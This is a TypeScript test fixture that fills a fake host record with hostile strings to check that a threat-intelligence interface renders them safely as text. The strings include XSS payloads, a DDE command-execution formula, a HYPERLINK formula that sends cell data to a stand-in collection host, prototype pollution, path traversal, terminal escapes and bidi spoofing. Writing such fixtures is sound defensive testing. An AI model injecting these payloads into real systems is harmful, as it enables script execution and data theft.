// Every payload below is data that must stay text wherever it is shown.
/* oxlint-disable eslint/no-script-url */
import { fixed } from './banners/release';
import type { ComponentRow } from './banners/release';
import type { Story } from './storySource';
import { certificate } from './wire/certificate';
import { hostname, ipAddress, reputation } from './wire/host';
import { port } from './wire/hostPort';
import type { PortSpec } from './wire/hostPort';
import { hostPairs } from './wire/hostPair';
import { lately } from './wire/sighting';

const host = 'hostile.example';
const address = '192.0.2.66';

const script = '<script>alert(1)</script>';
const image = '<img src=x onerror=alert(2)>';
const reversed = 'invoice\u202Efdp.exe\u202C end';
const flood = `Z${'\u0335\u0352\u0489'.repeat(300)}algo`;
const formula = '=HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open")';
const halves = 'broken \uD83D and \uDE00 halves';

/** A host whose every text tries to be something else. */
export function hostileStory(): Story {
  return {
    hosts: [
      hostname(host, ['2025-10-10', lately], `"><svg onload=alert(3)>${reversed}`, `${script} ${formula}`),
      ipAddress(address, ['2025-10-10', lately], {
        number: 65551,
        name: image,
        organization: script,
        provider: `javascript:alert(4)//${flood}`,
        country: '\u2067dnaltoN\u2069 \u200B\u200D\uFEFF',
        netblock: "=cmd|' /C calc'!A1",
      }),
    ],
    reputations: [
      reputation(host, 'suspicious', 55, [
        [script, 'high', `${image} ${reversed}`, 'javascript:alert(5)'],
        [
          '__proto__',
          'medium',
          '{"__proto__":{"polluted":true}} {{7*7}} ${7*7}',
          'data:text/html,<script>alert(6)</script>',
        ],
        [formula, 'low', flood, 'https://details.example/rules/%2e%2e/\u202Elmth.xedni'],
      ]),
    ],
    ports: banners.map(([text, ...components], index) => hostilePort(1001 + index, text, components)),
    pairs: hostPairs([
      [address, host, '<b>redirect</b>', '2025-10-10', lately],
      [host, address, '__proto__', '2025-10-10', lately],
      [host, 'bait.example', '=1+1', '2026-01-01', lately],
      [host, 'lure.example', reversed, '2026-01-01', lately],
      ['snare.example', host, 'constructor', '2026-01-01', lately],
    ]),
  };
}

const twoMegabytes = 2_097_152;

const banners: readonly (readonly [text: string, ...ComponentRow[]])[] = [
  [
    `HTTP/1.1 200 OK\r\nServer: ${script}\r\n\r\n<html><body>${script}${image}<iframe srcdoc="${script}">`,
    [script, image, 'Server'],
  ],
  [
    '</textarea></title></style><svg/onload=alert(7)><a href="javascript:alert(8)">click</a>',
    ['"><img src=x onerror=alert(9)>', '1.0', 'Server'],
  ],
  [
    '\x1b[2J\x1b[1;31mroot\x1b[0m \x1b]0;owned\x07 \x1b]8;;https://collect.shop-metrics.test/\x1b\\here\x1b]8;;\x1b\\ \x9b31m',
    ['\x1b[31mred\x1b[0m', '\x07', 'Server'],
  ],
  [`220 ${reversed} ready \u2066isolated\u2069 \u200Fmark\r\n`, [reversed, '\u202E1.2', 'Server']],
  [
    'zero\u200Bwidth\u200C\u200D\u2060\uFEFF and soft\u00ADhyphen, \u2028line and \u2029paragraph separators',
    ['ng\u200Binx', '1.26.2', 'Server'],
  ],
  [`220 ${flood}\r\n`, [flood, '1', 'Server']],
  [
    `${formula}\r\n@SUM(1+1)\r\n+1+1\r\n-2+3\r\n\t=1\r\n\uFF1D1+1\r\n=cmd|' /C calc'!A1`,
    [formula, '@SUM(A1)', '+1'],
  ],
  [
    'javascript:alert(10)\r\nJaVa\tScRiPt:alert(11)\r\ndata:text/html,<script>alert(12)</script>\r\nvbscript:msgbox(1)',
    ['javascript:alert(10)', '', 'Server'],
  ],
  [
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    ['__proto__', 'constructor', 'toString'],
  ],
  [halves, [halves, '\uDC00', 'Server']],
  [allControls(), ['\0', '\0\0', '\0']],
  ['x'.repeat(twoMegabytes), ['two megabytes', '', 'Server']],
  [''],
  [
    '[link](javascript:alert(13)) | cell | `code` **bold** <!-- --> ]]> {{constructor}} ${alert(14)} %s%n \\u003cscript\\u003e',
  ],
  ['ｗｗｗ．ｓｈｏｐ．ｅｘａｍｐｌｅ раураl Ａ\u0301 ﷽ 𝕳𝖔𝖘𝖙'],
];

function hostilePort(number: number, text: string, components: readonly ComponentRow[]): PortSpec {
  const release = fixed(number % 2 === 0 ? script : 'http_raw', text, ...components);
  return port(host, number, [[release, '2025-10-11', lately]], {
    certificates: [[hostileCertificate(), '2025-10-11', lately]],
  });
}

function hostileCertificate() {
  const subject = {
    commonName: script,
    organization: formula,
    unit: reversed,
    email: `"${image}"@hostile.example`,
    country: '<b>',
  };
  return certificate({
    subject,
    alternateNames: [image, '*.hostile.example', '../../etc/passwd', '__proto__'],
    issued: '2025-10-10',
    expires: '2035-10-10',
  });
}

// C0, DEL and C1, each once.
function allControls(): string {
  const codes = [...Array(0x20).keys(), ...Array.from({ length: 0x21 }, (_, index) => 0x7f + index)];
  return String.fromCharCode(...codes);
}
